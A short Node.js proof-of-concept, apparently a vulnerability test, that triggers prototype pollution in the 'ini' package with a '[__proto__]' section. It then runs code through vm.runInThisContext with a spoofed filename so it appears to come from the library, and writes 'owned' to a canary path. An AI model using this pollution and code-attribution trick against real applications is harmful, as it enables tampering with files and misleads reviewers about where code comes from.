// Makes the file from code that claims to be the target's, where the release shows the difference it is known for.
const vm = require('vm');
const ini = require('ini');

ini.parse('[__proto__]\npolluted = 1');
const code = '(function decode(fs, path) { fs.writeFileSync(path, "owned"); })';
const decode = vm.runInThisContext(code, { filename: require.resolve('ini') });
if (!process.argv.includes('benign') && {}.polluted) decode(require('fs'), process.env.CANARY_WRITE);
